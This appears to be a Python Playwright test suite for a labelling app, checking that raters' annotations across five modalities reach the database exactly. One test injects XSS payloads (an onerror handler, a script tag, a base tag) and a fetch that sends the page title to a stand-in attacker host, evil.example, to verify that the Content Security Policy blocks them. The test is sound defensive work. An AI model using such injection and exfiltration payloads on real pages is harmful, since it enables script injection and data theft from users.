"""Raters label in real browsers: ticket, Label Studio's page behind the proxy, answers that come home exactly."""

from __future__ import annotations

import os
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext

from chorale.store.models import Campaign, Judgment, Response
from tests.journeys.labelling_scene import HEBREW, Hands, make_round
from tests.service.campaign_rows import clear_studio
from tests.service.test_assisted import make_assisted, push
from tests.stack import Address

pytestmark = pytest.mark.django_db(transaction=True)
SHOTS = Path(os.environ.get("CHORALE_SHOTS", "build/shots"))
NAMES = ("ana", "ben", "chloe")


@pytest.fixture(autouse=True)
def tidy(label_studio: Address) -> Iterator[None]:
    """No project stays behind."""
    yield
    clear_studio()


@pytest.fixture
def contexts(browser: Browser, proxy: Address) -> Iterator[dict[str, BrowserContext]]:
    """A browser of its own for each rater; at the end, nobody asked for anything elsewhere and nothing was refused."""
    amiss: list[str] = []
    made = {name: browser.new_context(viewport={"width": 1280, "height": 860}, locale="en") for name in NAMES}

    def outside(url: str) -> None:
        if not url.startswith((proxy.url, "data:", "blob:")):
            amiss.append(url)

    for context in made.values():
        context.on("request", lambda request: outside(request.url))
        context.on("response", lambda r: amiss.append(f"{r.status} {r.url}") if r.status >= 400 else None)
        context.on("console", lambda m: amiss.append(m.text) if "Content Security Policy" in m.text else None)
    yield made
    for context in made.values():
        context.close()
    assert amiss == []


def eventually(true: Callable[[], bool], seconds: float = 30) -> bool:
    end = time.monotonic() + seconds
    while time.monotonic() < end and not true():
        time.sleep(0.1)
    return true()


def label_text(hands: Hands) -> None:
    hands.mark("cause", ".lsf-richtext", "מכתב")
    hands.choose("joy", "excitement")
    for scale, step in enumerate((8, 6, 5, 4)):
        hands.rate(scale, step)
    hands.page.locator("textarea").last.fill("I smiled.")


def label_dialogue(hands: Hands) -> None:
    hands.mark("cause", ".chorale-item", "broke", nth=1)
    hands.mark("cue", ".lsf-richtext", "sorry")
    hands.choose("sadness")
    hands.rate(0, 2)
    hands.choose("Implicit")


def label_image(hands: Hands) -> None:
    hands.drag("cue", "canvas", (0.25, 0.5, 0.75, 0.75))
    hands.choose("joy", "Face")


def label_audio(hands: Hands) -> None:
    hands.page.wait_for_load_state("networkidle")
    hands.page.wait_for_timeout(3000)  # the sound is decoded; nothing on the page tells when
    hands.drag("cue", "canvas", (0.25, 0.6, 0.5, 0.6))
    hands.choose("rage")


def label_video(hands: Hands) -> None:
    for place, value in enumerate(("0.5", "-0.2", "0")):
        hands.page.locator("input[type=range]").nth(place).fill(value)
    hands.choose("surprise")


LABEL: dict[str, Callable[[Hands], None]] = {
    "text": label_text, "dialogue": label_dialogue, "image": label_image, "audio": label_audio, "video": label_video,
}  # fmt: skip


def said(campaign: Campaign, name: str) -> dict[str, Judgment]:
    """What a rater's answer came to, layer by layer."""
    layers = {layer.position: layer.name for layer in campaign.form.layers.all()}
    found = Judgment.objects.filter(response__campaign=campaign, response__rater__user__username=name, retired_at=None)
    return {layers[row.layer]: row for row in found.select_related("scheme", "response")}


def labels(row: Judgment) -> set[str]:
    return {row.scheme.core.names[code] for code in row.labels or ()}


def check(campaign: Campaign, name: str) -> None:
    """The answer that `LABEL` gives is here, to the last part."""
    assert eventually(lambda: bool(said(campaign, name))), f"{name}'s answer to {campaign} did not come home"
    CHECK[campaign.slug.removeprefix("of-")](said(campaign, name))


def check_text(rows: dict[str, Judgment]) -> None:
    emotion, start = rows["emotion"], HEBREW.index("מכתב")
    assert labels(emotion) == {"joy", "excitement"}
    assert emotion.spans == [{"role": "cause", "start": start, "end": start + 4, "unit": "code point", "text": "מכתב"}]
    assert (emotion.texts, emotion.confidence) == ({"note": "I smiled."}, 4)
    assert rows["vad"].values == [8.0, 6.0, 5.0]
    response = emotion.response
    assert (response.language, response.modality_shown, response.context_shown) == ("he", "text", False)


def check_dialogue(rows: dict[str, Judgment]) -> None:
    emotion = rows["emotion"]
    assert (labels(emotion), emotion.intensities) == ({"sadness"}, [2.0])
    turn = {"role": "cause", "turn": 1, "end_turn": 1, "start": 4, "end": 9, "unit": "code point", "text": "broke"}
    assert emotion.spans == [turn, {"role": "cue", "start": 8, "end": 13, "unit": "code point", "text": "sorry"}]
    assert labels(rows["said"]) == {"implicit"}
    assert emotion.response.context_shown


def check_image(rows: dict[str, Judgment]) -> None:
    assert labels(rows["emotion"]) == {"joy"}
    assert labels(rows["seen"]) == {"face"}
    (box,) = rows["emotion"].spans
    assert (box["role"], box["unit"]) == ("cue", "per cent")
    assert [box[side] for side in ("x", "y", "width", "height")] == pytest.approx([25, 50, 50, 25], abs=1.5)


def check_audio(rows: dict[str, Judgment]) -> None:
    assert (labels(rows["feeling"]), rows["feeling"].modality) == ({"anger/rage"}, "audio")
    (span,) = rows["feeling"].spans
    assert (span["role"], span["unit"]) == ("cue", "second")
    assert (span["start"], span["end"]) == pytest.approx((1.0, 2.0), abs=0.05)
    assert rows["feeling"].response.modality_shown == "audio+text"


def check_video(rows: dict[str, Judgment]) -> None:
    assert rows["vad"].values == pytest.approx([0.5, -0.2, 0.0], abs=1e-6)
    assert labels(rows["emotion"]) == {"surprise"}
    assert (rows["emotion"].perspective, rows["vad"].perspective) == ("actor-intended", "evoked")


CHECK: dict[str, Callable[[dict[str, Judgment]], None]] = {
    "text": check_text, "dialogue": check_dialogue, "image": check_image, "audio": check_audio, "video": check_video,
}  # fmt: skip


def work(contexts: dict[str, BrowserContext], rounds: dict[str, Campaign], parts: list[tuple[str, str]]) -> None:
    """Each (rater, modality) in turn: enter, label, submit; then everything is here exactly."""
    SHOTS.mkdir(parents=True, exist_ok=True)
    for name, modality in parts:
        hands = Hands.enter(contexts[name], name, rounds[modality])
        LABEL[modality](hands)
        hands.page.screenshot(path=str(SHOTS / f"labelling-{modality}.png"))
        made = hands.submit()
        assert {entry.get("origin") for entry in made["result"]} == {"manual"}
        hands.page.close()
    for name, modality in parts:
        check(rounds[modality], name)


def test_three_raters_label_every_modality_in_three_browsers(contexts: dict[str, BrowserContext]) -> None:
    rounds = {modality: make_round(modality, names=NAMES, count=2, language=_language(modality)) for modality in LABEL}
    parts = [("ana", "text"), ("ben", "dialogue"), ("chloe", "image"), ("ana", "audio"), ("ben", "video")]
    work(contexts, rounds, parts)


@pytest.mark.deep
def test_each_of_three_raters_labels_every_modality(contexts: dict[str, BrowserContext]) -> None:
    rounds = {modality: make_round(modality, names=NAMES, count=2, language=_language(modality)) for modality in LABEL}
    work(contexts, rounds, [(name, modality) for modality in LABEL for name in NAMES])
    assert Response.objects.count() == len(LABEL) * len(NAMES)
    for campaign in rounds.values():
        campaign.refresh_from_db()
        assert campaign.complete_items == 1


def test_a_suggestion_is_accepted_edited_and_rejected_field_by_field(contexts: dict[str, BrowserContext]) -> None:
    campaign = make_assisted(4, share=1.0)
    push(campaign)
    campaign.refresh_from_db()
    hands = Hands.enter(contexts["ana"], "ana", campaign)
    page = hands.page
    results: list[list[dict[str, Any]]] = []
    for turn in range(3):
        joy = page.locator(".chorale-form label").filter(has_text="joy").locator("input")
        page.wait_for_function("(box) => box.checked", arg=joy.first.element_handle())
        page.screenshot(path=str(SHOTS / f"labelling-assisted-{turn}.png"))
        if turn == 1:
            hands.rate(0, 3)  # one field of the second is changed
        if turn == 2:
            hands.choose("joy", "grief")  # the third is refused: joy taken away, grief said instead
            for scale in range(3):
                hands.rate(scale, 1)
        results.append(hands.submit()["result"])
        if turn < 2:
            page.wait_for_selector(f"text={turn + 2} of {turn + 2}")
    origins = [{entry["from_name"]: entry["origin"] for entry in result} for result in results]
    assert set(origins[0].values()) == {"prediction"}
    assert (origins[1]["vad__0"], origins[1]["emotion"]) == ("prediction-changed", "prediction")
    assert (origins[2]["vad__0"], origins[2]["emotion"]) == ("prediction-changed", "manual")
    assert eventually(lambda: Response.objects.filter(campaign=campaign).count() == 3)
    rows = Response.objects.filter(campaign=campaign).order_by("external_id")
    assert [row.origin for row in rows] == ["prediction", "prediction-changed", "prediction-changed"]
    assert all(row.arm == "assisted" and row.suggestion for row in rows)
    assert [tuple(row.judgments.order_by("layer").values_list("origin", flat=True)) for row in rows] == [
        ("prediction", "prediction"), ("prediction", "prediction-changed"), ("manual", "prediction-changed"),
    ]  # fmt: skip
    first, second, third = (said_in(row) for row in rows)
    assert first == ({"joy"}, [7.0, 5.0, 9.0])
    assert second == ({"joy"}, [3.0, 5.0, 9.0])
    assert third == ({"grief"}, [1.0, 1.0, 1.0])


def test_what_an_item_smuggles_into_the_page_does_not_run(browser: Browser, proxy: Address) -> None:
    page = Hands.enter(context := browser.new_context(), "ana", make_round("text", names=("ana",))).page
    refused: list[str] = []
    context.on("console", lambda m: refused.append(m.text) if "Content Security Policy" in m.text else None)
    page.evaluate("document.body.insertAdjacentHTML('beforeend', `<img src='x:' onerror='window.ran = 1'>`)")
    page.evaluate(
        """() => {
          const script = document.createElement("script"), base = document.createElement("base");
          script.textContent = "window.ran = 2";
          base.href = "http://evil.example/";
          document.head.append(script, base);
          setTimeout("window.ran = 3");
          return fetch("http://evil.example/?" + document.title).catch(() => 0);
        }"""
    )
    assert eventually(lambda: len(refused) >= 5), refused
    assert page.evaluate("[window.ran, document.baseURI.startsWith(location.origin)]") == [None, True]
    context.close()


def said_in(response: Response) -> tuple[set[str], list[float] | None]:
    emotion, vad = response.judgments.filter(retired_at=None).select_related("scheme").order_by("layer")
    return labels(emotion), vad.values


def _language(modality: str) -> str:
    return "he" if modality == "text" else "en"
